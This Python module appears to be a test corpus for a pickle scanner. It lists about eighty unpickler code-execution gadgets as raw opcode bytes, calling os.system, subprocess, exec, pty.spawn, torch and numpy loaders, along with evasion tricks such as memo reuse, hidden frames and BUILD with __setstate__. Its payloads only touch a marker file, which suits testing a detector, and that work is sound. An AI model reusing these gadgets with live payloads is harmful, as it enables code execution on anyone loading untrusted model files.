"""Known ways to make an unpickler run something, each as the instructions of a pickle without its first and last byte.

Each that works with nothing but Python's own library writes the file that the environment's VAE_MARKER names, so that a
test can see that it would have worked.
"""

from __future__ import annotations

import struct
from dataclasses import dataclass

from .torch_files import call, mapping, name, number, several, text

PYTHON = "import os; open(os.environ['VAE_MARKER'], 'w').close()"
SHELL = 'touch "$VAE_MARKER"'


@dataclass(frozen=True)
class Gadget:
    """One way."""

    id: str
    code: bytes
    works: bool = False
    """Whether Python alone runs it, on a POSIX system."""


def stacked(module: str, attribute: str) -> bytes:
    """As protocol 4 names things: the two names on the stack."""
    return b"".join(b"\x8c" + bytes([len(part)]) + part.encode() for part in (module, attribute)) + b"\x93"


def line(value: str) -> bytes:
    """A text of protocol 0."""
    return b"S'" + value.encode() + b"'\n"


EXEC = call(name("builtins", "exec"), text(PYTHON))
SYSTEM = name("os", "system")

PLAIN = [
    Gadget("os.system", call(SYSTEM, text(SHELL)), True),
    Gadget("posix.system", call(name("posix", "system"), text(SHELL)), True),
    Gadget("nt.system", call(name("nt", "system"), text("calc.exe"))),
    Gadget("os.popen", call(name("os", "popen"), text(SHELL)), True),
    Gadget("subprocess.Popen", call(name("subprocess", "Popen"), several(text("sh"), text("-c"), text(SHELL))), True),
    Gadget("subprocess.check_output", call(name("subprocess", "getoutput"), text(SHELL)), True),
    Gadget("builtins.eval", call(name("builtins", "eval"), text(f"exec({PYTHON!r})")), True),
    Gadget("builtins.exec", EXEC, True),
    Gadget("__builtin__.eval, as Python 2 says it", call(name("__builtin__", "eval"), text(f"exec({PYTHON!r})"))),
    Gadget("builtins.compile", call(name("builtins", "compile"), text(PYTHON), text("x"), text("exec"))),
    Gadget(
        "builtins.getattr of a module",
        call(
            call(name("builtins", "getattr"), call(name("builtins", "__import__"), text("os")), text("system")),
            text(SHELL),
        ),
        True,
    ),
    Gadget("builtins.open", call(name("builtins", "open"), text("/tmp/x"), text("w"))),
    Gadget("importlib.import_module", call(name("importlib", "import_module"), text("antigravity"))),
    Gadget("runpy._run_code", call(name("runpy", "_run_code"), text(PYTHON), b"}"), True),
    Gadget("runpy.run_path", call(name("runpy", "run_path"), text("/tmp/x.py"))),
    Gadget("webbrowser.open", call(name("webbrowser", "open"), text("file:///etc/passwd"))),
    Gadget("pip", call(name("pip", "main"), b"](" + text("install") + text("x") + b"e")),
    Gadget("pip inside", call(name("pip._internal", "main"), b"](" + text("install") + text("x") + b"e")),
    Gadget("ctypes", call(name("ctypes", "CDLL"), text("libc.so.6"))),
    Gadget("operator.attrgetter", call(call(name("operator", "attrgetter"), text("system")), name("os", "path"))),
    Gadget("operator.methodcaller", call(call(name("operator", "methodcaller"), text("x")), text("y"))),
    Gadget("functools.partial", call(call(name("functools", "partial"), SYSTEM, text(SHELL))), True),
    Gadget("functools.reduce over a map", call(name("functools", "reduce"), SYSTEM, several(text("a"), text("b")))),
    Gadget(
        "builtins.map, consumed",
        call(name("builtins", "list"), call(name("builtins", "map"), SYSTEM, several(text(SHELL)))),
        True,
    ),
    Gadget("types.CodeType", call(name("types", "FunctionType"), b"N", b"}")),
    Gadget("code.InteractiveInterpreter", call(name("code", "InteractiveInterpreter"))),
    Gadget("timeit", call(name("timeit", "timeit"), text(PYTHON), text("0"), name("time", "time"), number(1)), True),
    Gadget("cProfile", call(name("cProfile", "run"), text(PYTHON)), True),
    Gadget("bdb", call(name("bdb", "Bdb"))),
    Gadget("pdb", call(name("pdb", "run"), text(PYTHON))),
    Gadget("pty", call(name("pty", "spawn"), text("sh"))),
    Gadget("shutil.rmtree", call(name("shutil", "rmtree"), text("/nowhere"))),
    Gadget("socket", call(name("socket", "create_connection"), several(text("127.0.0.1"), number(9)))),
    Gadget("urllib", call(name("urllib.request", "urlopen"), text("http://127.0.0.1:9/"))),
    Gadget("pickle.loads, a pickle inside", call(name("pickle", "loads"), b"C\x01.")),
    Gadget("marshal", call(name("marshal", "loads"), b"C\x01N")),
    Gadget("doctest", call(name("doctest", "debug_script"), text(PYTHON))),
    Gadget("logging.config", call(name("logging.config", "listen"))),
    Gadget("torch.load", call(name("torch", "load"), text("/tmp/x.pt"))),
    Gadget("torch.storage._load_from_bytes", call(name("torch.storage", "_load_from_bytes"), b"C\x01.")),
    Gadget("torch.hub.load", call(name("torch.hub", "load"), text("a/b"), text("c"))),
    Gadget("torch.jit.load", call(name("torch.jit", "load"), text("/tmp/x.pt"))),
    Gadget("torch.FloatStorage, all memory", call(name("torch", "FloatStorage"), number(10**13))),
    Gadget("torch's way to compile", call(name("torch.utils.cpp_extension", "load_inline"), text("x"), text("y"))),
    Gadget("torch._inductor", call(name("torch._inductor.codecache", "compile_file"), text("x"))),
    Gadget("torch.distributed", call(name("torch.distributed.rpc", "rpc_sync"), text("x"), SYSTEM)),
    Gadget("numpy.testing", call(name("numpy.testing._private.utils", "runstring"), text(PYTHON), b"}")),
    Gadget("numpy.f2py", call(name("numpy.f2py.crackfortran", "getlincoef"), text(PYTHON), b"}")),
    Gadget("numpy.load", call(name("numpy", "load"), text("/tmp/x.npy"))),
    Gadget("a callback's constructor", call(name("pytorch_lightning.callbacks.model_checkpoint", "ModelCheckpoint"))),
    Gadget("another codec", call(name("_codecs", "encode"), text("x"), text("antigravity"))),
]

OTHER_INSTRUCTIONS = [
    Gadget("STACK_GLOBAL", stacked("os", "system") + several(text(SHELL)) + b"R", True),
    Gadget("STACK_GLOBAL of __import__", stacked("builtins", "__import__") + several(text("antigravity")) + b"R"),
    Gadget(
        "STACK_GLOBAL with a path of attributes",
        stacked("collections", "abc.sys.modules.get") + several(text("os")) + b"R",
    ),
    Gadget("NEWOBJ", name("subprocess", "Popen") + several(text("sh")) + b"\x81"),
    Gadget("NEWOBJ_EX", name("subprocess", "Popen") + b")}" + b"\x92"),
    Gadget("INST", b"(" + text(SHELL) + b"ios\nsystem\n", True),
    Gadget("OBJ", b"(" + SYSTEM + text(SHELL) + b"o", True),
    Gadget("EXT1", b"\x82\x01" + several(text(SHELL)) + b"R"),
    Gadget("EXT2", b"\x83" + struct.pack("<H", 1) + several(text(SHELL)) + b"R"),
    Gadget("EXT4", b"\x84" + struct.pack("<i", 1) + several(text(SHELL)) + b"R"),
    Gadget("PERSID", b"Pos.system\n"),
    Gadget(
        "BUILD with __setstate__",
        call(name("types", "SimpleNamespace")) + mapping({"__setstate__": SYSTEM}) + b"b" + text(SHELL) + b"b",
    ),
    Gadget("BUILD of a class", name("collections", "OrderedDict") + mapping({"__init__": SYSTEM}) + b"b"),
    Gadget("BUILD of a class, with nothing bad", name("collections", "OrderedDict") + mapping({"a": number(1)}) + b"b"),
    Gadget("BUILD of slots", name("torch", "Size") + b"N" + mapping({"__reduce__": SYSTEM}) + b"\x86b"),
    Gadget("named and never called", name("antigravity", "fly")),
    Gadget("from the memo", SYSTEM + b"q\x63" + b"0" + b"h\x63" + several(text(SHELL)) + b"R", True),
    Gadget("dropped by POP", call(SYSTEM, text(SHELL)) + b"0N", True),
    Gadget("dropped by POP_MARK", b"(" + call(SYSTEM, text(SHELL)) + b"1N", True),
    Gadget("inside a tuple", several(call(SYSTEM, text(SHELL))), True),
    Gadget("as a dict's key", b"}" + call(SYSTEM, text(SHELL)) + b"Ns", True),
    Gadget(
        "as an argument of what is harmless",
        call(name("collections", "OrderedDict"), b"](" + several(EXEC, b"N") + b"e"),
        True,
    ),
    Gadget("as a storage's type", several(text("storage"), SYSTEM, text("0"), text("cpu"), number(1)) + b"Q"),
    Gadget("as a persistent id", call(SYSTEM, text(SHELL)) + b"Q"),
    Gadget("in another frame", b"\x95" + bytes(8) + call(SYSTEM, text(SHELL)), True),
    Gadget("after a text that looks like an end", text(".") + b"0" + call(SYSTEM, text(SHELL)), True),
    Gadget("text instructions", b"cos\nsystem\n(" + line(SHELL) + b"tR", True),
]

GADGETS = [*PLAIN, *OTHER_INSTRUCTIONS]
